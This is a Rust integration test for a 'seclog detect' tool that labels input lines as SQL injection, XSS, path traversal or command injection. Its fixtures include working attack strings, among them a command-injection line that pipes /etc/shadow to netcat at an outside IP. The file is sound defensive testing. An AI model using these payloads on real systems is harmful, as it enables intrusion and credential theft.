#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]
//! `seclog detect` on a file of mixed inputs.

use std::io::Write;
use std::process::{Command, Stdio};

use assert_cmd::cargo::CommandCargoExt;
use serde_json::Value;

#[test]
fn detect_prints_one_json_object_per_input_line() {
    let inputs = [
        ("1' OR '1'='1", Some("sqli")),
        ("<script>alert(document.cookie)</script>", Some("xss")),
        ("../../../../etc/passwd", Some("path_traversal")),
        ("foo; cat /etc/shadow | nc 203.0.113.5 4444", Some("cmdi")),
        ("john.smith@example.com", None),
        ("Order #12345 shipped to 221B Baker Street", None),
        ("", None),
    ];
    let mut child = Command::cargo_bin("seclog")
        .unwrap()
        .arg("detect")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    {
        let mut stdin = child.stdin.take().unwrap();
        for (line, _) in &inputs {
            writeln!(stdin, "{line}").unwrap();
        }
    }
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    let lines: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), inputs.len());
    for (got, (input, class)) in lines.iter().zip(inputs) {
        assert_eq!(got["input"], input);
        let attacks: Vec<&str> =
            got["attacks"].as_array().unwrap().iter().map(|a| a.as_str().unwrap()).collect();
        match class {
            Some(c) => {
                assert!(attacks.contains(&c), "{input:?}: {attacks:?}");
                assert!(!got["rules"].as_array().unwrap().is_empty());
            }
            None => assert!(attacks.is_empty(), "{input:?} is benign: {attacks:?}"),
        }
    }
}
